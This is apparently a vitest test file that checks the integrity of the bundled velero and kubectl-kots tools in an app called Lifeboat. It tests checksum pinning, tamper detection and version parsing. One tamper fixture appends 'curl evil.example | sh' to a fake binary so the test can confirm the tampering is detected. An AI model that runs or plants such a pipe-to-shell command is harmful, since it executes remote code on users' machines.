import { chmodSync, mkdirSync, mkdtempSync, renameSync, statSync, writeFileSync, utimesSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type LifeboatError } from '../api/errors';
import { Binaries, defaultLock, parseToolVersion, platformKey, sha256File, type ToolsLock } from './binaries';

const VELERO = '#!/bin/sh\nprintf "Client:\\n\\tVersion: v1.18.3\\n\\tGit commit: abc\\n"\n';
const KOTS = '#!/bin/sh\necho "Replicated KOTS 1.131.4"\n';

function toolsDir(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'lb-bin-'));
  for (const [name, body] of Object.entries(files)) {
    writeFileSync(join(dir, name), body);
    chmodSync(join(dir, name), 0o755);
  }
  return dir;
}

async function lockFor(dir: string): Promise<ToolsLock> {
  const key = platformKey();
  const art = async (f: string) => ({
    url: 'https://example.invalid/x.tar.gz',
    sha256: 'a'.repeat(64),
    entry: f,
    binarySha256: await sha256File(join(dir, f)),
  });
  return {
    tools: {
      velero: { version: '1.18.3', binary: 'velero', versionCommand: ['version', '--client-only'], artifacts: { [key]: await art('velero') } },
      'kubectl-kots': { version: '1.131.4', binary: 'kubectl-kots', versionCommand: ['version'], artifacts: { [key]: await art('kubectl-kots') } },
    },
  };
}

async function caught(p: Promise<unknown>): Promise<LifeboatError> {
  try {
    await p;
  } catch (e) {
    return e as LifeboatError;
  }
  throw new Error('expected failure');
}

describe('Binaries', () => {
  it('the committed lock pins velero v1.18.3 and kubectl-kots v1.131.4 with real release URLs', () => {
    expect(defaultLock.tools.velero.version).toBe('1.18.3');
    expect(defaultLock.tools.velero.artifacts['linux-x64'].url).toBe(
      'https://github.com/vmware-tanzu/velero/releases/download/v1.18.3/velero-v1.18.3-linux-amd64.tar.gz',
    );
    expect(defaultLock.tools['kubectl-kots'].version).toBe('1.131.4');
    expect(defaultLock.tools['kubectl-kots'].artifacts['linux-arm64'].url).toBe(
      'https://github.com/replicatedhq/kots/releases/download/v1.131.4/kots_linux_arm64.tar.gz',
    );
  });

  it('resolves dev, packaged and override directories', () => {
    expect(new Binaries({ repoRoot: '/repo', platform: 'linux', arch: 'x64' }).dir).toBe('/repo/resources/bin/linux-x64');
    expect(new Binaries({ packaged: true, resourcesPath: '/opt/Lifeboat/resources' }).dir).toBe('/opt/Lifeboat/resources/bin');
    expect(new Binaries({ overrideDir: '/lab/tools', packaged: true, resourcesPath: '/x' }).dir).toBe('/lab/tools');
    expect(new Binaries({ repoRoot: '/r', platform: 'win32', arch: 'x64' }).pathOf('velero')).toMatch(/win-x64[\\/]velero\.exe$/);
  });

  it('verifies bundled tools against the lock and reports ok', async () => {
    const dir = toolsDir({ velero: VELERO, 'kubectl-kots': KOTS });
    const root = mkdtempSync(join(tmpdir(), 'lb-res-'));
    mkdirSync(join(root, 'bin'));
    for (const f of ['velero', 'kubectl-kots']) writeFileSync(join(root, 'bin', f), f === 'velero' ? VELERO : KOTS);
    const b = new Binaries({ packaged: true, resourcesPath: root, lock: await lockFor(dir) });
    expect(await b.resolve('velero')).toBe(join(root, 'bin', 'velero'));
    const list = await b.list();
    expect(list.map((t) => [t.name, t.status, t.version, t.source])).toEqual([
      ['velero', 'ok', '1.18.3', 'bundled'],
      ['kubectl-kots', 'ok', '1.131.4', 'bundled'],
    ]);
  });

  it('a tampered binary is TOOL_TAMPERED, also after a verified first use', async () => {
    const dir = toolsDir({ velero: VELERO, 'kubectl-kots': KOTS });
    const root = mkdtempSync(join(tmpdir(), 'lb-res-'));
    mkdirSync(join(root, 'bin'));
    writeFileSync(join(root, 'bin', 'velero'), VELERO);
    const b = new Binaries({ packaged: true, resourcesPath: root, lock: await lockFor(dir) });
    await b.resolve('velero');
    writeFileSync(join(root, 'bin', 'velero'), VELERO + 'curl evil.example | sh\n');
    utimesSync(join(root, 'bin', 'velero'), new Date(), new Date(Date.now() + 5000));
    const err = await caught(b.resolve('velero'));
    expect(err.code).toBe('TOOL_TAMPERED');
    expect(err.hint).toMatch(/Reinstall/);
    expect((await b.describe('velero')).status).toBe('tampered');
  });

  it('a same-size swap with its mtime set back is still TOOL_TAMPERED (in place or renamed over)', async () => {
    const dir = toolsDir({ velero: VELERO, 'kubectl-kots': KOTS });
    const root = mkdtempSync(join(tmpdir(), 'lb-res-'));
    mkdirSync(join(root, 'bin'));
    const file = join(root, 'bin', 'velero');
    writeFileSync(file, VELERO);
    const T = new Date('2025-01-01T00:00:00Z'); // whole seconds: utimes can restore it exactly
    utimesSync(file, T, T);
    const b = new Binaries({ packaged: true, resourcesPath: root, lock: await lockFor(dir) });
    await b.resolve('velero');
    const before = statSync(file);
    const evil = VELERO.replace('abc', 'xyz'); // same length
    expect(evil.length).toBe(VELERO.length);
    await new Promise((r) => setTimeout(r, 30)); // past the kernel's coarse timestamp tick
    writeFileSync(file, evil);
    utimesSync(file, before.atime, before.mtime);
    expect(statSync(file).mtimeMs).toBe(before.mtimeMs);
    expect((await caught(b.resolve('velero'))).code).toBe('TOOL_TAMPERED');

    writeFileSync(file, VELERO);
    utimesSync(file, T, T);
    await b.resolve('velero');
    const again = statSync(file);
    writeFileSync(join(root, 'bin', 'velero.new'), evil);
    utimesSync(join(root, 'bin', 'velero.new'), again.atime, again.mtime);
    renameSync(join(root, 'bin', 'velero.new'), file);
    expect(statSync(file).size).toBe(again.size);
    expect((await caught(b.resolve('velero'))).code).toBe('TOOL_TAMPERED');
  });

  it('a missing binary is TOOL_MISSING with a hint for each mode', async () => {
    const empty = mkdtempSync(join(tmpdir(), 'lb-empty-'));
    const dev = await caught(new Binaries({ repoRoot: empty }).resolve('velero'));
    expect(dev.code).toBe('TOOL_MISSING');
    expect(dev.hint).toMatch(/fetch-tools/);
    const ov = await caught(new Binaries({ overrideDir: empty }).resolve('kubectl-kots'));
    expect(ov.hint).toMatch(/LIFEBOAT_TOOLS_DIR/);
    expect((await new Binaries({ overrideDir: empty }).describe('velero')).status).toBe('missing');
  });

  it('a packaged build without pinned checksums refuses to run tools', async () => {
    const root = mkdtempSync(join(tmpdir(), 'lb-res-'));
    mkdirSync(join(root, 'bin'));
    writeFileSync(join(root, 'bin', 'velero'), VELERO);
    const err = await caught(new Binaries({ packaged: true, resourcesPath: root }).resolve('velero'));
    expect(err.code).toBe('TOOL_TAMPERED');
  });

  it('override: no checksum, versions read by running the tools', async () => {
    const dir = toolsDir({ velero: VELERO, 'kubectl-kots': KOTS });
    const b = new Binaries({ overrideDir: dir });
    const list = await b.list();
    expect(list.map((t) => [t.name, t.status, t.version, t.source])).toEqual([
      ['velero', 'unverified', '1.18.3', 'override'],
      ['kubectl-kots', 'unverified', '1.131.4', 'override'],
    ]);
  });

  it("reads kots's version without handing it a cluster, so its post-run version check cannot hold it up", async () => {
    // kots's root PersistentPostRun (kots cmd/kots/cli/root.go at v1.131.4) port-forwards to the
    // admin console of whatever cluster the kubeconfig names (cmd/kots/cli/check-version.go) and may
    // wait ~10 s for it (pkg/k8sutil/portforward.go); `version` needs no cluster. The fake stands in
    // for that wait whenever it is given a kubeconfig that names one.
    const slowWithCluster = '#!/bin/sh\necho "Replicated KOTS 1.131.4"\nif [ "$KUBECONFIG" != /dev/null ]; then exec sleep 5; fi\n';
    const b = new Binaries({ overrideDir: toolsDir({ velero: VELERO, 'kubectl-kots': slowWithCluster }), versionTimeoutMs: 2000 });
    expect(await b.version('kubectl-kots')).toBe('1.131.4');
  });

  it('on a platform kots publishes no kubectl-kots for, says so instead of "run fetch-tools"', async () => {
    // kots deploy/.goreleaser.yaml at v1.131.4 builds linux and darwin only.
    const b = new Binaries({ repoRoot: mkdtempSync(join(tmpdir(), 'lb-win-')), platform: 'win32', arch: 'x64' });
    const err = await caught(b.resolve('kubectl-kots'));
    expect(err.code).toBe('TOOL_MISSING');
    expect(err.message).toMatch(/no kubectl-kots for win-x64/);
    expect(err.hint).toMatch(/Linux or macOS.*WSL 2/);
  });

  it('malformed version output is TOOL_OUTPUT_INVALID', async () => {
    expect(() => parseToolVersion('velero', 'garbage')).toThrow(/did not print a version/);
    const dir = toolsDir({ velero: '#!/bin/sh\necho hello\n', 'kubectl-kots': '#!/bin/sh\nexit 2\n' });
    const b = new Binaries({ overrideDir: dir });
    const err = await caught(b.version('velero'));
    expect(err.code).toBe('TOOL_OUTPUT_INVALID');
    const failed = await caught(b.version('kubectl-kots'));
    expect(failed.code).toBe('TOOL_FAILED');
    expect(parseToolVersion('kubectl-kots', 'Replicated KOTS 1.131.4\n')).toBe('1.131.4');
  });
});
